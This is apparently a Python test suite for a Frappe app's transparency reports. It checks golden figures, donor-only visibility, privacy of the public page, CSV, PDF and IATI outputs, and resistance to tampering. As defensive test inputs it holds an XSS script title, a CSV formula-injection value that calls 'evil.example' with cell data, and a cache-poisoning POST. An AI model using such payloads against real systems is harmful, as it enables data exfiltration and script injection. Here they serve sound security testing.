"""Transparency outputs on the demo dataset: figures equal the independently counted golden
numbers (reports/golden), donors see only what they fund, and public outputs carry no personal
or confidential data and render markup inert."""

import io
import json

import frappe
from frappe.tests.utils import FrappeTestCase

from ta_programmes import transparency as T
from ta_programmes.core.privacy import rounded
from ta_programmes.tests import factories as f
from ta_programmes.tests.test_demo_loader import shipped_dataset


def golden() -> dict | None:
	dataset = shipped_dataset()
	if not dataset:
		return None
	return json.loads((dataset.parents[1] / "reports" / "golden" / "demo_figures.json").read_text())


class TransparencyCase(FrappeTestCase):
	@classmethod
	def setUpClass(cls):
		super().setUpClass()
		cls.golden = golden()
		if not cls.golden:
			raise __import__("unittest").SkipTest("the demo dataset and golden figures are not beside this app")
		from ta_programmes.demo.loader import load

		frappe.set_user("Administrator")
		load(shipped_dataset())  # idempotent; commits
		cls.demo = json.loads((shipped_dataset() / "programmes.json").read_text())
		cls.demo_titles = {p["title"] for p in cls.demo}
		cls.demo_names = frappe.get_all("TA Programme", filters={"title": ("in", list(cls.demo_titles))}, pluck="name")
		cls.trainers = json.loads((shipped_dataset() / "trainers.json").read_text())


class TestGoldenFigures(TransparencyCase):
	def test_desk_report_equals_the_independent_count(self):
		from ta_programmes.technical_assistance.report.ta_assistance_delivered.ta_assistance_delivered import (
			execute,
		)

		_cols, rows, _m, chart, summary = execute({"group_by": "Programme and State"})
		rows = [r for r in rows if r["title"] in self.demo_titles]
		g = self.golden["totals"]
		for key in ("activities", "participants", "women", "men", "other"):
			self.assertEqual(sum(r[key] for r in rows), g[key], key)
		self.assertAlmostEqual(sum(r["trainer_hours"] for r in rows), g["trainer_hours"])
		by_state: dict = {}
		for r in rows:
			s = by_state.setdefault(r["beneficiary_state"], {"activities": 0, "participants": 0})
			s["activities"] += r["activities"]
			s["participants"] += r["participants"]
		self.assertEqual(by_state, {k: {"activities": v["activities"], "participants": v["participants"]} for k, v in self.golden["by_state"].items()})
		self.assertTrue(all(r["oversight_coverage"] == 100 for r in rows), "every demo activity went through the gate")
		self.assertEqual(len(summary), 7)
		self.assertTrue(chart["data"]["labels"])

	def test_public_page_figures_equal_the_independent_count(self):
		report = T.public_report(T.Filters(programmes=self.demo_names))
		cards = {c["label"]: c["value"] for c in report["cards"]}
		g = self.golden
		self.assertEqual(cards["Approved programmes"], g["programmes_reported"])
		self.assertEqual(cards["Activities delivered"], g["totals"]["activities"])
		k = report["k"]
		self.assertEqual(cards["Participants"], rounded(g["totals"]["participants"], k))
		self.assertEqual(cards["Trainer-hours"], g["totals"]["trainer_hours"])
		self.assertEqual(len(report["overrides"]), g["overrides"])
		states = next(t for t in report["tables"] if t["id"] == "by-state")
		hidden_states = {row[0] for row in states["rows"] if isinstance(row[5], str)}
		group_of = dict(frappe.get_all("TA Beneficiary State", fields=["name", "regional_group"], as_list=True))
		table = next(t for t in report["tables"] if t["id"] == "by-regional-group")
		published = {row[0]: row[-1] for row in table["rows"]}
		for group, figures in g["by_regional_group"].items():
			if any(group_of[s] == group for s in hidden_states):
				self.assertIsInstance(published[group], str, f"{group} holds a hidden state and must be hidden")
			elif isinstance(published[group], int):
				self.assertEqual(published[group], rounded(figures["participants"], k))
		for row in states["rows"]:
			expected = g["by_state"][row[0]]
			self.assertEqual(row[1], expected["activities"])
			for value, key in zip(row[2:5], ("women", "men", "other")):
				if isinstance(value, int):
					self.assertEqual(value, rounded(expected[key], k))
				else:
					self.assertTrue(str(value).startswith(("<", "x")), value)


class TestDonorView(TransparencyCase):
	def tearDown(self):
		frappe.set_user("Administrator")

	def test_donor_sees_only_what_it_funds_in_report_and_portal(self):
		from ta_programmes.technical_assistance.report.ta_assistance_delivered.ta_assistance_delivered import (
			execute,
		)

		eu = set(frappe.get_all("TA Funding Line", filters={"donor": "European Union", "parenttype": "TA Programme"}, pluck="parent"))
		frappe.set_user("donor@ta.localhost")
		_c, rows, *_ = execute({})
		self.assertTrue(rows)
		self.assertTrue({r["programme"] for r in rows} <= eu)
		self.assertEqual(set(frappe.get_list("TA Programme", pluck="name", limit=0)), eu)
		view = T.donor_view(["European Union"])
		self.assertEqual({p["name"] for p in view}, eu)

	def test_donor_portal_page_lists_only_own_programmes(self):
		norway = set(frappe.get_all("TA Funding Line", filters={"donor": "Government of Norway", "parenttype": "TA Programme"}, pluck="parent"))
		headers = f.api_auth("donor@ta.localhost")
		frappe.db.commit()
		html = f.rest("GET", "/my-programmes", headers=headers).get_data(as_text=True)
		for name in norway - set(frappe.get_all("TA Funding Line", filters={"donor": "European Union"}, pluck="parent")):
			self.assertNotIn(name, html)
		self.assertIn("European Union", html)


class TestPublicOutputsLeakNothing(TransparencyCase):
	def forbidden(self) -> list[str]:
		"""Names and texts that must never reach a public output."""
		words = [t["full_name"] for t in self.trainers if not t["consent_public_profile"]]
		words += [u.full_name for u in frappe.get_all("User", filters={"name": ("like", "%@ta.localhost")}, fields=["full_name"])]
		words += ["@ta.localhost", "linked to arrests of online journalists", "Publish the curriculum", "risk rated", "Former employer"]
		return words

	def test_guest_page_csv_and_pdf_carry_no_personal_or_confidential_data(self):
		frappe.db.commit()
		page = f.rest("GET", "/transparency")
		self.assertEqual(page.status_code, 200)
		csv = f.rest("GET", "/api/method/ta_programmes.api.transparency.public_csv")
		pdf = f.rest("GET", "/api/method/ta_programmes.api.transparency.public_pdf")
		self.assertEqual((csv.status_code, pdf.status_code), (200, 200))
		from pypdf import PdfReader

		pdf_text = "\n".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf.data)).pages)
		self.assertIn(str(self.golden["totals"]["activities"]), page.get_data(as_text=True))
		for output in (page.get_data(as_text=True), csv.get_data(as_text=True), pdf_text):
			for word in self.forbidden():
				self.assertNotIn(word, output)
		consenting = [t["full_name"] for t in self.trainers if t["consent_public_profile"]]
		self.assertTrue(any(name in page.get_data(as_text=True) for name in consenting), "consenting experts are named")

	def test_public_pdf_is_laid_out_once_per_change(self):
		"""A Guest asking again for the same PDF gets the kept file (laying out the decade takes
		seconds); a change to what is published makes a new one."""
		from unittest import mock

		url = "/api/method/ta_programmes.api.transparency.public_pdf?regional_group=African"
		T.clear_public_cache()
		frappe.db.commit()
		with mock.patch.object(T, "public_pdf_bytes", wraps=T.public_pdf_bytes) as layout:
			first = f.rest("GET", url)
			second = f.rest("GET", url)
			self.assertEqual((first.status_code, second.status_code), (200, 200))
			self.assertEqual(first.data, second.data)
			self.assertEqual(layout.call_count, 1)
			T.clear_public_cache()
			frappe.db.commit()
			self.assertEqual(f.rest("GET", url).status_code, 200)
			self.assertEqual(layout.call_count, 2)

	def test_markup_in_a_title_renders_inert(self):
		f.approved("<script>alert(1)</script>")
		frappe.db.commit()
		T.clear_public_cache()
		html = f.rest("GET", "/transparency").get_data(as_text=True)
		self.assertNotIn("<script>alert(1)", html)
		self.assertIn("&lt;script&gt;alert(1)&lt;/script&gt;", html)  # shown as text, once escaped
		csv = f.rest("GET", "/api/method/ta_programmes.api.transparency.public_csv").get_data(as_text=True)
		self.assertIn("<script>alert(1)</script>", csv)  # CSV is data, not markup: the title as written


class TestPublicOutputsCannotBeTampered(FrappeTestCase):
	"""What one visitor sends never becomes what the next one reads, and a title is data in the CSV,
	never a formula."""

	@classmethod
	def setUpClass(cls):
		super().setUpClass()
		cls.funded = f.approved("Funded by A _test")
		frappe.db.set_single_value("TA Transparency Settings", "public_page_enabled", 1)
		frappe.db.commit()

	def test_a_posted_filter_is_never_stored_as_the_page_every_guest_gets(self):
		T.clear_public_cache()
		frappe.db.commit()
		posted = f.rest("POST", "/transparency", data={"donor": "URGENT: this report is withdrawn"})
		self.assertLess(posted.status_code, 500)
		for _ in range(2):  # the first plain GET stores the page, the second is served from it
			plain = f.rest("GET", "/transparency").get_data(as_text=True)
			self.assertNotIn("URGENT", plain)
			self.assertNotIn('role="alert"', plain)
		T.clear_public_cache()
		frappe.db.commit()
		f.rest("POST", "/transparency", data={"donor": "Donor A _test"})
		self.assertNotIn('value="Donor A _test" selected', f.rest("GET", "/transparency").get_data(as_text=True))

	def test_the_page_has_its_own_renderer_and_other_paths_are_left_to_frappe(self):
		from frappe.website.path_resolver import PathResolver
		from frappe.website.page_renderers.template_page import TemplatePage

		from ta_programmes.transparency.web import TransparencyPage

		_endpoint, page = PathResolver("/transparency").resolve()
		self.assertIsInstance(page, TransparencyPage)
		self.assertTrue(page.template_path.endswith("www/transparency.html"))
		_endpoint, other = PathResolver("/report-concern").resolve()
		self.assertNotIsInstance(other, TransparencyPage)
		self.assertIsInstance(other, TemplatePage)
		T.clear_public_cache()
		frappe.db.commit()
		pages = []
		for _ in range(2):  # stored, then served from Frappe's page cache: the same page
			response = f.rest("GET", "/transparency")
			self.assertEqual(response.status_code, 200)
			self.assertNotIn("Content-Encoding", response.headers)
			pages.append(response.get_data(as_text=True))
			self.assertIn('id="results"', pages[-1])
		# gzipped for a client that accepts it (HTML as JSON), the same page once decoded
		import gzip

		zipped = f.rest("GET", "/transparency", headers={"Accept-Encoding": "gzip"})
		self.assertEqual(zipped.headers.get("Content-Encoding"), "gzip")
		self.assertEqual(gzip.decompress(zipped.get_data()).decode(), pages[-1])
		self.assertIn("Accept-Encoding", zipped.headers.get("Vary", ""))

	def test_filters_on_what_a_programme_covers_select_as_its_lists_do(self):
		"""reported_programmes finds the programmes of a donor, state, regional group, theme or
		category in the child tables: the same programmes, in the same order, as testing each
		programme's lists."""
		everything = T.reported_programmes(T.Filters())  # with their lists
		self.assertTrue(everything)
		groups = dict(frappe.get_all("TA Beneficiary State", fields=["name", "regional_group"], as_list=True))
		categories = dict(frappe.get_all("TA Thematic Area", fields=["name", "category"], as_list=True))
		p = next(p for p in everything if p.donors and p.states and p.themes)
		cases = [
			{"donor": p.donors[0]}, {"beneficiary_state": p.states[0]}, {"regional_group": groups.get(p.states[0])},
			{"thematic_area": p.themes[0]}, {"category": categories.get(p.themes[0])},
			{"donor": p.donors[0], "thematic_area": p.themes[0], "regional_group": groups.get(p.states[0])},
			{"donor": p.donors[0].upper() + " (not a donor)"},
		]

		def covers(q, flt):
			return (
				(not flt.get("donor") or flt["donor"] in q.donors)
				and (not flt.get("beneficiary_state") or flt["beneficiary_state"] in q.states)
				and (not flt.get("regional_group") or flt["regional_group"] in {groups.get(s) for s in q.states})
				and (not flt.get("thematic_area") or flt["thematic_area"] in q.themes)
				and (not flt.get("category") or flt["category"] in {categories.get(t) for t in q.themes})
			)

		for flt in cases:
			expected = [q.name for q in everything if covers(q, flt)]
			got = [q.name for q in T.reported_programmes(T.Filters(**flt), with_experts=False, lists=False)]
			self.assertEqual(got, expected, flt)
			if "(not a donor)" in flt.get("donor", ""):
				self.assertEqual(got, [])
			else:
				self.assertIn(p.name, got)

	def test_a_title_that_looks_like_a_formula_is_text_in_the_csv(self):
		frappe.db.set_value("TA Programme", self.funded, "title_fr", '=HYPERLINK("http://evil.example/?"&A1,"x")')
		frappe.db.commit()
		T.clear_public_cache()
		text = f.rest("GET", "/api/method/ta_programmes.api.transparency.public_csv?_lang=fr").get_data(as_text=True)
		self.assertIn("'=HYPERLINK", text)
		self.assertNotIn(',"=HYPERLINK', text)
		self.assertFalse(any(line.startswith("=") for line in text.splitlines()))


class TestIatiFile(TransparencyCase):
	def test_iati_endpoint_validates_against_the_official_schema_and_holds_nothing_confidential(self):
		import importlib.util
		import os

		frappe.db.commit()
		response = f.rest("GET", "/api/method/ta_programmes.api.iati.activities")
		self.assertEqual(response.status_code, 200, response.get_data(as_text=True)[:300])
		self.assertIn("xml", response.headers["Content-Type"])
		from lxml import etree

		spec = importlib.util.find_spec("iati")
		if not spec:
			self.skipTest("pyIATI (the official schema) is not installed in this bench")
		xsd = os.path.join(os.path.dirname(spec.origin), "resources/standard/2-03/schemas/iati-activities-schema.xsd")
		schema = etree.XMLSchema(etree.parse(xsd))
		doc = etree.fromstring(response.data)
		self.assertTrue(schema.validate(doc), schema.error_log)
		identifiers = doc.findall(".//iati-identifier")
		self.assertGreaterEqual(len(identifiers), self.golden["programmes_reported"])
		text = response.get_data(as_text=True)
		for word in ("@ta.localhost", "linked to arrests of online journalists", "Publish the curriculum"):
			self.assertNotIn(word, text)
		for activity in doc.findall("iati-activity"):
			self.assertAlmostEqual(sum(float(c.get("percentage")) for c in activity.findall("recipient-country")), 100, places=2)
			self.assertEqual(activity.find("policy-marker").get("vocabulary"), "99")


class TestDeskPdf(TransparencyCase):
	def tearDown(self):
		frappe.set_user("Administrator")

	def test_desk_pdf_for_a_donor_holds_only_its_programmes(self):
		from pypdf import PdfReader

		from ta_programmes.api.transparency import request_pdf

		frappe.set_user("donor@ta.localhost")
		url = request_pdf({})["file_url"]
		frappe.set_user("Administrator")
		file = frappe.get_doc("File", {"file_url": url})
		self.assertTrue(file.is_private)
		text = "\n".join(p.extract_text() for p in PdfReader(io.BytesIO(file.get_content())).pages)
		self.assertIn("Page 1 of", text)
		eu = set(frappe.get_all("TA Funding Line", filters={"donor": "European Union", "parenttype": "TA Programme"}, pluck="parent"))
		others = frappe.get_all(
			"TA Programme", filters={"name": ("not in", list(eu)), "status": ("in", T.REPORTED_STATUSES)}, pluck="title"
		)
		funded = frappe.get_all("TA Programme", filters={"name": ("in", list(eu)), "status": ("in", T.REPORTED_STATUSES)}, pluck="title")
		self.assertTrue(any(T.plain(t)[:30] in text.replace("\n", " ") for t in funded))
		for title in others:
			self.assertNotIn(T.plain(title)[:40], text.replace("\n", " "))
